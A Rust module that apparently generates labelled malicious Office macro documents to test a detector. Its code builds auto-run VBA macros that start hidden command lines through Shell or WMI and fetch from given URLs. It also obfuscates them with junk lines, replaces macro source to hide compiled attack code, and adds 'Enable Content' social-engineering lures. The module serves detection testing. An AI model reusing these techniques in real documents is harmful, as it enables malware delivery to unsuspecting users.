//! Macro projects shaped like the attacks: an entry point, a hidden string, a call that starts it.

use super::hide::{self, Hidden};
use super::place::Shelf;
use super::script::{self, Shape};
use super::{Chance, Container, Forged, Module, Page, Place, Project, Style, Truth, routine};
use crate::forge::document::Extras;
use crate::forge::ovba::Kind;
use anyhow::Result;

/// Calls that start a command, `{cmd}` its variable. The window is hidden by each that can.
const STARTS: [&str; 6] = [
    "Shell {cmd}, vbHide",
    "{x} = Shell({cmd}, 0)",
    "CreateObject(\"WScript.Shell\").Run {cmd}, 0, False",
    "Set {x} = GetObject(\"winmgmts:Win32_Process\")\n{x}.Create {cmd}, Null, Null, {y}",
    "Set {y} = GetObject(\"winmgmts:Win32_ProcessStartup\")\n{y}.ShowWindow = 0\n\
     Set {x} = GetObject(\"winmgmts:Win32_Process\")\n{x}.Create {cmd}, Null, {y}, {z}",
    "GetObject(\"winm\" & \"gmts:\" & \"Win32\" & \"_Process\").Create {cmd}, Null, Null, {x}",
];

/// Calls that fewer macros use, for the rare styles; and not for the others, whose documents are checked in.
const RARE_STARTS: [&str; 4] = [
    "Set {x} = CreateObject(\"WScript.Shell\").Exec({cmd})",
    "Set {x} = CreateObject(\"WbemScripting.SWbemLocator\").ConnectServer(\".\", \"root\\cimv2\")\n\
     {y} = {x}.Get(\"Win32_Process\").Create({cmd}, Null, Null, {z})",
    STARTS[0],
    STARTS[3],
];

/// What an attack is to look like.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Plan {
    /// What it is packed in.
    pub container: Container,
    /// Its shape.
    pub shape: Shape,
    /// How its command is hidden.
    pub style: Style,
    /// Where the hidden text lies.
    pub place: Place,
    /// Whether the source is replaced by a harmless one, and only the compiled code is left of the attack.
    pub stomped: bool,
}

impl Plan {
    /// An attack whose text lies in its source.
    pub fn new(container: Container, shape: Shape, style: Style) -> Self {
        Self { container, shape, style, place: Place::Source, stomped: false }
    }
}

/// An attack whose text lies in its source: see [`planned`].
pub fn attack(
    container: Container,
    shape: Shape,
    style: Style,
    urls: &[String],
    chance: &mut Chance,
) -> Result<Forged> {
    planned(Plan::new(container, shape, style), urls, chance)
}

/// A document whose macro would start a hidden command that would fetch from `urls`.
pub fn planned(plan: Plan, urls: &[String], chance: &mut Chance) -> Result<Forged> {
    let Plan { container, shape, style, place, stomped } = plan;
    let script = script::script(shape, urls, chance);
    let command = script::command(shape, &script, chance);
    let [procedure, variable, x, y, z] =
        [(); 5].map(|()| format!("{}{}", chance.identifier(), chance.below(100)));
    let starts = if Style::RARE.contains(&style) { &RARE_STARTS[..] } else { &STARTS[..] };
    let start = *chance.pick(starts);
    let call = start.replace("{cmd}", &variable).replace("{x}", &x).replace("{y}", &y).replace("{z}", &z);

    let (mut document_body, own_entry, entry_point) = entry(container, &procedure, chance);
    let ahead = (place != Place::Source).then(|| lure(chance));
    let shelf =
        Shelf::choose(place, container, ahead.as_ref().unwrap_or(&Page { lines: Vec::new() }), chance);
    let held = (place != Place::Source).then_some(shelf.expression.as_str());
    let mut hidden = if held.is_none() && Style::CONSTANT.contains(&style) {
        hide::hide(style, &variable, &command, chance)
    } else {
        routine::hide(style, held, &variable, &command, chance)
    };
    if !hidden.document.is_empty() {
        document_body.extend([format!("\n{}\n", hidden.document.join("\n"))]);
    }
    let (stored, further) = (hidden.stored.take(), std::mem::take(&mut hidden.modules));
    let code = procedure_with(&procedure, hidden, own_entry, &call, container, chance);

    let module = Module::new(&chance.identifier(), Kind::Standard, &code);
    let mut modules = super::document_modules(container, &document_body);
    modules.push(module);
    modules.extend(further);
    let name = if container.is_word() { "Project" } else { "VBAProject" };
    // Japanese names need the Japanese code page.
    let western = chance.one_in(3);
    let code_page = if western && code.is_ascii() { 1_252 } else { 932 };
    let mut page = match ahead {
        Some(page) => page,
        None => lure(chance),
    };
    let mut extras = Extras::default();
    shelf.put(stored.unwrap_or_default(), &mut page, &mut extras, &mut modules);
    let mut project = Project { name: name.to_owned(), code_page, modules };
    if stomped {
        stomp(&mut project, chance);
    }
    let bytes = super::pack(container, &page, &extras, &project, chance)?;
    let truth = Truth {
        verdict: "attack",
        shape: shape.name().to_owned(),
        style: Some(style),
        place,
        stomped,
        starts_by: Some(start.to_owned()),
        container,
        code_page,
        shows: page.first_text(),
        modules: project.modules,
        entry_point: Some(entry_point),
        command: Some(command),
        script: Some(script),
        urls: urls.to_vec(),
        checks: vec!["document.auto-run-macro", "document.starts-powershell"],
    };
    Ok(Forged { bytes, truth })
}

/// The standard module: what stands at its head, the procedure that starts the command, what stands at its end.
fn procedure_with(
    procedure: &str,
    hidden: Hidden,
    own_entry: Vec<String>,
    call: &str,
    container: Container,
    chance: &mut Chance,
) -> String {
    let mut code: Vec<String> = hidden.head;
    code.extend(own_entry);
    code.push(format!("Public Sub {procedure}()"));
    code.push("On Error Resume Next".to_owned());
    for line in hidden.body {
        if !hidden.whole && chance.one_in(7) {
            code.push(junk(chance));
        }
        code.push(format!("    {}", line.replace("{document}", container.document_module())));
    }
    code.extend(call.lines().map(|line| format!("    {line}")));
    code.push("End Sub\n".to_owned());
    code.extend(hidden.tail);
    code.join("\n")
}

/// Puts harmless source in the place of the attack's, whose compiled code stays.
fn stomp(project: &mut Project, chance: &mut Chance) {
    const HARMLESS: [&str; 4] = [
        "Sub Macro1()\n    MsgBox \"Hello\"\nEnd Sub\n",
        "' Recorded\nSub Format_Table()\n    Selection.Font.Bold = True\nEnd Sub\n",
        "Public Function Total(a As Double, b As Double) As Double\n    Total = a + b\nEnd Function\n",
        "",
    ];
    for module in &mut project.modules {
        module.compiled = Some(module.code.clone());
        let body = if module.kind == Kind::Standard { *chance.pick(&HARMLESS) } else { "" };
        let attributes: String =
            module.code.split_inclusive("\r\n").take_while(|line| line.starts_with("Attribute ")).collect();
        module.code = attributes + &body.replace('\n', "\r\n");
    }
}

/// Body of the document module, lines for the standard module, and the name of the entry point.
fn entry(container: Container, procedure: &str, chance: &mut Chance) -> (String, Vec<String>, String) {
    let (event, automatic) =
        if container.is_word() { ("Document_Open", "AutoOpen") } else { ("Workbook_Open", "Auto_Open") };
    let call = *chance.pick(&["", "Call "]);
    if chance.one_in(3) {
        let lines = [&format!("Sub {automatic}()"), &format!("    {call}{procedure}"), "End Sub"];
        (String::new(), lines.map(str::to_owned).to_vec(), automatic.to_owned())
    } else {
        (format!("Private Sub {event}()\n    {call}{procedure}\nEnd Sub\n"), Vec::new(), event.to_owned())
    }
}

/// A line that does nothing.
fn junk(chance: &mut Chance) -> String {
    let name = chance.identifier();
    match chance.below(3) {
        0 => format!("    ' {} {} {}", name, chance.word(4, 9), chance.word(4, 9)),
        1 => format!("    {name} = {} * {} + {}", chance.below(99), chance.below(99), chance.below(999)),
        _ => format!(
            "    If {} > {} Then {name} = \"{}\"",
            chance.below(9),
            chance.between(10, 99),
            chance.word(4, 8)
        ),
    }
}

/// What the victim is told to do.
pub(in crate::forge) fn lure(chance: &mut Chance) -> Page {
    const LURES: [[&str; 2]; 3] = [
        [
            "この文書は以前のバージョンの Microsoft Office で作成されています。",
            "内容を表示するには、「編集を有効にする」をクリックし、次に「コンテンツの有効化」をクリックしてください。",
        ],
        ["この文書は保護されています。", "「コンテンツの有効化」をクリックすると内容が表示されます。"],
        [
            "This document is only available for desktop or laptop versions of Microsoft Office.",
            "Click Enable Editing, then click Enable Content.",
        ],
    ];
    Page { lines: chance.pick(&LURES).map(str::to_owned).to_vec() }
}
